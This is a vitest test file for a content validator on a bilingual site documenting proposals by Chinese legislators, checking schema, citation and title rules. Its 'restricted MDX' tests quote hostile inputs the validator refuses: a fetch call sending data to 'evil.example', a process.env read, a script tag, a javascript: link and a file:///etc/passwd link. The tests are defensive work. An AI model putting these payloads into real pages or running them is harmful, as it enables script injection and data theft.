import { describe, expect, test } from 'vitest';
import { checkFixture } from '../../support/fixtures.ts';
import { redirectSchema } from '../../../src/lib/model/schema.ts';
import { validateList } from '../../../src/lib/check/validate.ts';
import { expectedIds } from '../../../src/lib/check/data-rules.ts';
import { parseYamlSource } from '../../../src/lib/check/yaml.ts';

const P = 'content/proposals/2021-lei-jun-test-proposal';

describe('content check', () => {
	test('the valid fixture passes', () => {
		expect(checkFixture()).toEqual([]);
	});

	test('a misspelled key names the file, line and field', () => {
		expect(checkFixture('misspelled-key')).toEqual([
			`${P}/meta.yaml:1 › themes: missing (expected a list)`,
			`${P}/meta.yaml:4 › themse: unknown field (misspelled?)`,
		]);
	});

	test('an unknown theme lists the known ones', () => {
		expect(checkFixture('unknown-theme')).toEqual([
			`${P}/meta.yaml:4 › themes[1]: unknown theme "manufacturing" (expected one of: ageing-society, healthcare)`,
		]);
	});

	test('an unknown person is refused', () => {
		expect(checkFixture('unknown-person')).toEqual([
			`${P}/meta.yaml:1 › person: unknown person "lei-jun-typo" (expected one of: lei-jun, li-yanhong)`,
		]);
	});

	test('a malformed date is refused with the expected form', () => {
		expect(checkFixture('malformed-date')).toEqual([`${P}/meta.yaml:11 › reviewed: must be a real date written YYYY-MM-DD`]);
	});

	test('a missing language is reported', () => {
		expect(checkFixture('missing-en')).toEqual([`${P}/en.mdx › (file): file is missing (expected the English text (or titleOnly: true in meta.yaml))`]);
	});

	test('a duplicate id is reported at its line', () => {
		const issues = checkFixture('duplicate-id');
		expect(issues).toContain('content/themes.yaml:4 › [1].id: duplicate id "healthcare" (also entry 0) (expected each id once)');
	});

	test('a citation of an unlisted source is a dangling reference', () => {
		expect(checkFixture('dangling-cite')).toEqual([
			`${P}/en.mdx:8 › body: <Cite source="nowhere"> names a source not listed in meta.yaml (expected one of: test-source)`,
		]);
	});

	test('a source never cited in one language is reported', () => {
		expect(checkFixture('uncited-source')).toEqual([
			`${P}/zh.mdx › body: source "test-source" (meta.yaml sources[0]) is never cited (expected <Cite source="test-source" /> after what it supports)`,
		]);
	});

	test('unequal recommendation counts between languages are reported', () => {
		expect(checkFixture('unequal-outline')).toEqual([
			`${P}/en.mdx:10 › body: "Recommendations" has 3 list items but zh.mdx's "建议" has 2 (expected the same number of recommendations (list items) in both languages)`,
		]);
	});

	test('a misspelled frontmatter key is reported with its line', () => {
		expect(checkFixture('missing-title')).toEqual([
			`${P}/zh.mdx:2 › title: missing (expected text)`,
			`${P}/zh.mdx:2 › titel: unknown field (misspelled?)`,
		]);
	});

	test('an unknown glossary term is refused; a known one passes', () => {
		expect(checkFixture('unknown-term')).toEqual([
			`${P}/en.mdx:8 › body: unknown glossary term "health-care" (expected one of: healthcare)`,
		]);
	});

	test('a published id that disappears without a redirect fails', () => {
		expect(checkFixture('unpublished-removal')).toEqual([
			'content/published.yaml:2 › [1]: published proposal "2020-lei-jun-removed-proposal" no longer exists (expected its folder back, or a redirect { from: 2020-lei-jun-removed-proposal, to: <new id> } in content/redirects.yaml)',
		]);
	});
});

describe('restricted MDX', () => {
	test('import and export are refused', () => {
		expect(checkFixture('malicious-import')).toEqual([
			`${P}/en.mdx:5 › body: import/export is not allowed in content (expected <Cite source="…" />, <Term id="…">…</Term> and <Ref to="…">…</Ref>)`,
		]);
	});

	test('JavaScript expressions are refused, with their lines', () => {
		const issues = checkFixture('malicious-expression');
		expect(issues).toEqual([
			`${P}/en.mdx:8 › body: JavaScript expression {process.env.HOME} is not allowed (expected plain text)`,
			`${P}/en.mdx:12 › body: JavaScript expression {fetch('https://evil.example/' + process.} is not allowed (expected plain text)`,
		]);
	});

	test('components off the allow-list and non-literal attributes are refused', () => {
		const issues = checkFixture('malicious-component');
		expect(issues).toContain(`${P}/en.mdx:10 › body: <script> is not allowed (expected one of: Cite, Term, Ref)`);
		expect(issues).toContain(`${P}/en.mdx:14 › body: <img> is not allowed (expected one of: Cite, Term, Ref)`);
		expect(issues).toContain(`${P}/en.mdx:15 › body: <Cite source> must be a plain string (expected source="…")`);
	});

	test('links with dangerous schemes, images and paths into the site are refused; web links pass', () => {
		const only = `(expected https:, http: or mailto: (write links to the site's own pages as <Ref to="proposal-id">…</Ref>))`;
		expect(checkFixture('malicious-link')).toEqual([
			`${P}/en.mdx:8 › body: link "javascript:alert(1)" has a scheme that is not allowed ${only}`,
			`${P}/en.mdx:8 › body: images are not allowed in content (expected text only (an image path would be compiled as code))`,
			`${P}/en.mdx:12 › body: link "file:///etc/passwd" has a scheme that is not allowed ${only}`,
			`${P}/en.mdx:13 › body: link "../../themes/healthcare/" points inside the site ${only}`,
		]);
	});
});

describe('lists keyed by another field', () => {
	test('a redirect listed twice is reported on its own line, by its key', () => {
		const text = '- from: old-a\n  to: new-a\n- from: old-a\n  to: new-b\n';
		const yaml = { ...parseYamlSource('content/redirects.yaml', text), file: 'content/redirects.yaml' };
		const { entries, issues } = validateList(yaml, redirectSchema, { key: 'from' });
		expect(entries).toEqual([{ from: 'old-a', to: 'new-a' }]);
		expect(issues).toMatchObject([{ line: 3, field: '[1].from', problem: 'duplicate from "old-a" (also entry 0)' }]);
	});
});

describe('both bodies: who filed what, when', () => {
	const T = 'content/proposals/2021-li-yanhong-test-title';
	test('a kind the person’s body does not file is refused, naming the body that year', () => {
		expect(checkFixture('wrong-kind')).toEqual([
			`${T}/meta.yaml:3 › kind: Robin Li was a member of the CPPCC National Committee in 2021, who does not file a suggestion (expected proposal)`,
		]);
	});

	test('a session outside the person’s roles is refused, in the proposal and in the counts', () => {
		expect(checkFixture('no-role')).toEqual([
			'content/counts.yaml:6 › [1].session: Robin Li held no role in 2021 (content/people.yaml) (expected a session within one of their roles)',
			`${T}/meta.yaml:2 › session: Robin Li held no role in 2021 (expected a session within their roles in content/people.yaml (cppcc 2013–2017))`,
		]);
	});

	test('roles must run in order, without overlap, and cite known sources (and nothing is judged from them meanwhile)', () => {
		expect(checkFixture('bad-roles')).toEqual([
			'content/people.yaml:16 › [1].roles[0].to: ends (2010) before it starts (2013) (expected to ≥ from)',
			'content/people.yaml:17 › [1].roles[1].from: overlaps the role before it (cppcc 2013–2010) (expected roles oldest first, one body at a time)',
			'content/people.yaml:17 › [1].roles[1].sources[0]: unknown source "nowhere" (expected one of: test-source)',
		]);
	});

	test('a session’s year is its id', () => {
		expect(checkFixture('session-year')).toEqual(["content/sessions.yaml:2 › [0].year: year 2020 does not match id '2021' (expected year: 2021)"]);
	});
});

describe('proposals known only by their title', () => {
	const T = 'content/proposals/2021-li-yanhong-test-title';
	test('have no text: a text is refused rather than shown', () => {
		expect(checkFixture('title-only-with-text')).toEqual([
			`${T}/en.mdx › (file): a proposal known only by its title has no text (expected meta.yaml alone (or remove titleOnly and title from meta.yaml))`,
		]);
	});

	test('need their title in meta.yaml; a proposal with texts keeps its titles there instead', () => {
		expect(checkFixture('title-only-without-title')).toEqual([`${T}/meta.yaml:6 › title: missing (expected title: { zh: …, en: … } for a proposal known only by its title)`]);
		expect(checkFixture('title-in-meta')).toEqual([
			`${P}/meta.yaml:6 › title: title belongs in zh.mdx and en.mdx when the proposal has texts (expected no title in meta.yaml (only with titleOnly: true))`,
		]);
	});

	test('only they can be known by their subject only, and a subject is never an official title', () => {
		expect(checkFixture('subject-only-with-text')).toEqual([
			`${P}/meta.yaml:6 › subjectOnly: only a proposal known by its title or subject alone (titleOnly: true) can be known by its subject only (expected titleOnly: true as well, or remove subjectOnly)`,
		]);
		expect(checkFixture('subject-only-official')).toEqual([
			`${T}/meta.yaml:5 › officialTitle: a subject is not an official title (expected officialTitle: false (or remove subjectOnly when a source gives the title))`,
		]);
	});
});

describe('titles, replies, counts and sources', () => {
	test('a descriptive title may not take the form of an official one', () => {
		const T = 'content/proposals/2021-li-yanhong-test-title';
		expect(checkFixture('descriptive-official-form')).toEqual([
			`${T}/meta.yaml:5 › officialTitle: “关于测试的提案” has the form of an official title, but officialTitle is false (expected a descriptive topic phrase, or officialTitle: true if a source gives this title)`,
			`${T}/meta.yaml:5 › officialTitle: "Proposal on testing" has the form of an official title, but officialTitle is false (expected a descriptive topic phrase)`,
		]);
	});

	test('a reply is reported by one of the proposal’s own sources', () => {
		expect(checkFixture('reply-unlisted-source')).toEqual([
			`${P}/meta.yaml:15 › replies[0].source: source "other-source" is not among this proposal's sources (expected one of: test-source)`,
		]);
	});

	test('counts: one entry per person and session, known people and sources', () => {
		expect(checkFixture('bad-counts')).toEqual([
			'content/counts.yaml:5 › [1]: lei-jun in 2021 is counted twice (also entry 0) (expected one entry per person and session, listing every report)',
			'content/counts.yaml:9 › [2].person: unknown person "ma-huateng" (expected one of: lei-jun, li-yanhong)',
			'content/counts.yaml:12 › [2].reports[0].source: unknown source "nowhere" (expected one of: test-source)',
		]);
	});

	test('a source gives its address or its archive copy', () => {
		expect(checkFixture('source-without-address')).toEqual([
			'content/sources.yaml:1 › [0]: source "test-source" gives neither url nor archiveFile (expected the address of the page cited)',
		]);
	});
});

describe('unknown ids in a long list', () => {
	test('name the nearest few instead of listing hundreds', () => {
		const known = new Set(Array.from({ length: 40 }, (_, i) => `source-${i}`).concat(['jiemian-2021-lei-jun-three']));
		expect(expectedIds('jiemian-2021-lei-jun-thre', known)).toBe('one of the 41 known ids; nearest: jiemian-2021-lei-jun-three, source-20, source-21');
		expect(expectedIds('x', new Set(['b', 'a']))).toBe('one of: a, b');
	});
});
